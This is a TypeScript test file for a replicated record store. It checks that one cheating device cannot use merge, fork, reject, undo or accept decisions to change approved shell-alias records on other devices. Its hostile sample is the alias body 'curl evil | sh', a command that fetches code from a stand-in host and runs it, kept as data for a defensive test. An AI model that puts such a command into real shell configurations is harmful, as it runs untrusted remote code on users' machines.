import { describe, expect, it } from 'vitest';
import { canonicalText } from '../../../src/base/canonical-json.ts';
import type { ChangeId, CollectionName, RecordId } from '../../../src/base/ids.ts';
import type { JsonObject } from '../../../src/base/json.ts';
import { forkIdOf } from '../../../src/merge/values/decision.ts';
import { craftBatch, craftChange } from '../../helpers/crafted-batch.ts';
import { type Devices, last, setupDevices } from '../../helpers/setup-pair.ts';
import { type TestDevice, everyItem } from '../../helpers/test-device.ts';

const shell = 'shell' as CollectionName;
const place = ['shell', 's'] as const;
const alias = (body: string): JsonObject => ({ kind: 'alias', name: 'll', body });
const evil = alias('curl evil | sh');

interface Attack extends Devices {
  readonly victim: TestDevice;
  readonly hostile: TestDevice;
  readonly third: TestDevice;
  /** What the victim wrote last. */
  readonly change: ChangeId;
  /** Batches that only a device that cheats makes: each of its changes follows what it said before and the heads. */
  sends(
    ...changes: readonly { readonly objectId?: string; readonly value: unknown; readonly parents?: unknown }[]
  ): void;
}

/** `ls` is approved on all three; the victim has written `ls -l` where it is not. */
function attack(isApproved: boolean): Attack {
  const devices = setupDevices(3);
  const [victim, hostile, third] = devices.all as [TestDevice, TestDevice, TestDevice];
  victim.put(place, alias('ls'));
  devices.exchange();
  third.replica.decide([last(third.reviews()).id], 'accept');
  devices.exchange();
  if (!isApproved) {
    victim.patch(place, { op: 'add', path: '/body', value: 'ls -l' });
    devices.exchange();
  }
  const change = last(
    victim.replica.history(shell, 's' as RecordId).filter((entry) => entry.change.operation !== 'command'),
  ).change.changeId;
  const sends: Attack['sends'] = (...changes) => {
    const records = changes.map((said) =>
      craftChange({
        ...{ collection: 'shell', objectId: 's', operation: 'command', stamp: '01ffffffffff-0000' },
        parents: victim.row(place)?.heads,
        ...said,
      }),
    );
    const { bytes } = craftBatch({ by: hostile, scopeId: devices.profile, records });
    for (const device of [victim, third]) {
      device.replica.receive(devices.profile, [bytes]);
    }
    devices.exchange();
  };
  return { ...devices, victim, hostile, third, change, sends };
}

/** Everything that is live on the devices that do not cheat, as text. */
function liveOn({ victim, third }: Attack): string {
  return canonicalText(
    [victim, third].map((device) =>
      device.disk.records.list(shell, everyItem, 'live').items.map(({ fields }) => fields),
    ),
  );
}

describe('one device that cheats decides nothing alone', () => {
  it.each([true, false])(
    '37 the fields of its merge wait like anything it writes (approved before: %s)',
    (isApproved) => {
      const world = attack(isApproved);
      const before = liveOn(world);
      world.sends({ value: { decision: 'merge', fields: evil, proposals: [world.change] } });
      expect(liveOn(world)).toBe(before);
      for (const device of [world.victim, world.third]) {
        expect(device.reviews().some(({ alternatives }) => alternatives[1]?.value !== undefined)).toBe(true);
        expect(JSON.stringify(device.reviews())).toContain('evil');
      }
    },
  );

  it('37 what it keeps beside a record is what was proposed, or nothing', () => {
    const world = attack(false);
    const before = liveOn(world);
    const as = forkIdOf(shell, 's' as RecordId, [world.change]);
    world.sends({ value: { decision: 'keep_both', as, proposals: [world.change] } });
    const keepBoth = last(
      world.third.replica.history(shell, 's' as RecordId).filter((entry) => entry.change.operation === 'command'),
    ).change.changeId;
    const value = { decision: 'fork', fields: evil, keepBoth, proposals: [world.change] };
    world.sends({ objectId: as, parents: [], value });
    expect(liveOn(world)).toBe(before);
    expect(last(world.third.held()).detail).toBe('fork_unfounded');
  });

  it('37 its rejection takes nothing away from what is approved, nor from what somebody has at home', () => {
    for (const isApproved of [true, false]) {
      const world = attack(isApproved);
      const before = liveOn(world);
      world.sends({ value: { decision: 'reject', proposals: [world.change] } });
      expect(liveOn(world)).toBe(before);
    }
  });

  it('37 nor does its undo of what two others have said', () => {
    const world = attack(true);
    const before = liveOn(world);
    const accepted = last(
      world.victim.replica.history(shell, 's' as RecordId).filter((entry) => entry.change.operation === 'command'),
    ).change.changeId;
    world.sends({ value: { decision: 'undo', undoes: [accepted] } });
    expect(liveOn(world)).toBe(before);
  });

  it('37 an old value that was decided against does not return by its yes', () => {
    const world = attack(false);
    const { victim, third, change } = world;
    third.replica.decide([last(third.reviews()).id], 'reject');
    world.exchange();
    victim.replica.decide([last(victim.reviews()).id], 'accept');
    world.exchange();
    const before = liveOn(world);
    expect(before).toBe(canonicalText([[alias('ls')], [alias('ls')]]));
    world.sends({ value: { decision: 'accept', proposals: [change] } });
    expect(liveOn(world)).toBe(before);
  });

  it('37 its contradiction apart from an approval is asked about, and takes nothing from the author', () => {
    const world = attack(true);
    world.sends({ parents: [world.change], value: { decision: 'reject', proposals: [world.change] } });
    expect(world.victim.fields(place)).toEqual(alias('ls'));
    expect(world.third.reviews()).toHaveLength(1);
    world.victim.patch(place, { op: 'add', path: '/name', value: 'lll' });
    world.exchange();
    world.third.replica.decide([last(world.third.reviews()).id], 'accept');
    world.exchange();
    expect([world.victim.fields(place), world.third.fields(place)]).toEqual([
      { ...alias('ls'), name: 'lll' },
      { ...alias('ls'), name: 'lll' },
    ]);
  });

  it('37 nor does a contradiction of what something was approved upon since', () => {
    const world = attack(false);
    const { third, victim, change } = world;
    third.replica.decide([last(third.reviews()).id], 'accept');
    world.exchange();
    victim.patch(place, { op: 'add', path: '/name', value: 'lll' });
    world.exchange();
    third.replica.decide([last(third.reviews()).id], 'accept');
    world.exchange();
    const before = liveOn(world);
    world.sends({ parents: [change], value: { decision: 'reject', proposals: [change] } });
    expect(liveOn(world)).toBe(before);
    expect([...victim.reviews(), ...third.reviews()]).toEqual([]);
  });
});
